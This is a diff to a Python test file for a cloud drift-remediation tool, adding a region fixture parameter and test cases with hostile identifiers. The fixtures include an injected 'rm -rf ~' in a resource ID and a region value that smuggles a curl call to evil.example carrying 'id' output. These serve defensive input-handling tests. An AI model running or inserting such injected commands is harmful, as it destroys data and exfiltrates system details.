@@ -55,13 +55,14 @@ def make_drift(
     drift_id: str = "d-0001",
     event_id: str = "0f1e2d3c-0000-4000-8000-000000000001",
     request: Mapping[str, Any] | None = None,
+    region: str = "eu-west-1",
 ) -> Drift:
     event = CloudEvent(
         id=event_id,
         name=event_name,
         source=source,
         time=datetime(2026, 3, 14, 9, 26, 53, tzinfo=UTC),
-        region="eu-west-1",
+        region=region,
         actor=Actor(name=actor, arn=f"arn:aws:iam::123456789012:user/{actor}", type="IAMUser"),
         request=request,
     )
@@ -670,7 +671,7 @@ CASES: tuple[Case, ...] = (
         "import",
     ),
     Case(
-        "unmanaged_bucket_cleanup_hostile_id",
+        "unmanaged_permission_bad_id_refused",
         lambda: make_drift(
             "",
             "aws_lambda_permission",
@@ -680,6 +681,20 @@ CASES: tuple[Case, ...] = (
             resource_id="production-api/x; rm -rf ~",
             event_name="AddPermission20150331v2",
             source="lambda.amazonaws.com",
+        ),
+        "revert",
+    ),
+    Case(
+        "unmanaged_role_cleanup_hostile_region",
+        lambda: make_drift(
+            "",
+            "aws_iam_role",
+            [("name", None, "deploy+bot=1,@x")],
+            kind=Kind.UNMANAGED,
+            resource_id="deploy+bot=1,@x",
+            event_name="CreateRole",
+            source="iam.amazonaws.com",
+            region="eu-west-1'; curl https://evil.example/$(id) #",
         ),
         "revert",
     ),
